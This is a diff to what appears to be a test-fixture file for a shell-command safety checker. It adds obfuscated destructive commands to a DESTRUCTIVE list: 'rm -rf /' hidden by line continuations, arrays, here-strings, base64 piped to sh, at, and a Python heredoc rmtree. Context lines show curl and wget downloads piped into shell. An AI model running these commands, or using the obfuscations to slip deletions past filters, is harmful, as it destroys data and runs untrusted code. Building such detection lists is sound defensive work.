@@ -31,6 +31,8 @@ DESTRUCTIVE: list[str] = [
     'rm -rf "/"',
     "rm -r''f /",
     "'/bin/rm' -rf /usr",
+    "r\\\nm -rf /",
+    "rm -rf \\\n /etc",
     # ANSI-C quoting
     "$'\\x72\\x6d' -rf /",
     "$'\\162\\155' -rf /",
@@ -50,6 +52,11 @@ DESTRUCTIVE: list[str] = [
     "dev=/dev/sda; dd if=/dev/zero of=$dev",
     "$CMD -rf /",
     "${RM:-rm} -rf /",
+    'set -- rm -rf /; "$@"',
+    "read -r c <<< 'rm -rf /'; $c",
+    "printf -v c 'rm -rf /'; $c",
+    'a=(rm -rf /); "${a[@]}"',
+    "w=(r m); ${w[0]}${w[1]} -rf /",
     # IFS tricks
     "rm${IFS}-rf${IFS}/",
     "IFS=,; c=rm,-rf,/; $c",
@@ -110,6 +117,9 @@ DESTRUCTIVE: list[str] = [
     "source <(echo 'rm -rf /')",
     ". <(printf 'rm -rf /')",
     "echo 'rm -rf /' > /tmp/x.sh; sh /tmp/x.sh",
+    ". /dev/stdin <<< 'rm -rf /'",
+    "echo cm0gLXJmIC8= | base64 -d | tee /tmp/y | sh",
+    "echo 'rm -rf /' | at now",
     # xargs and find
     "echo / | xargs rm -rf",
     "printf '/etc\\n' | xargs -I{} rm -rf {}",
@@ -161,6 +171,8 @@ DESTRUCTIVE: list[str] = [
     "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
     "python -c \"import os; os.system('rm -rf /')\"",
     "perl -e 'system(\"rm -rf /\")'",
+    "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF",
+    'function rm { command rm "$@"; }; rm -rf /',
     "curl -fsSL http://203.0.113.9/install.sh | sh",
     "wget -qO- http://203.0.113.9/x | sudo bash",
 ]
@@ -413,4 +425,10 @@ ORDINARY: list[str] = [
     "watch -n 5 df -h",
     "xargs -n1 echo < list.txt",
     "make -C /srv/app build",
+    "sudo apt-get install \\\n  -y nginx \\\n  certbot",
+    "kill -1 2345",
+    "python3 -m venv .venv",
+    "perl -pi -e 's/old/new/' config.ini",
+    "echo '192.0.2.5 db' | sudo tee -a /etc/hosts",
+    "read -r -p 'Continue? ' answer",
 ]
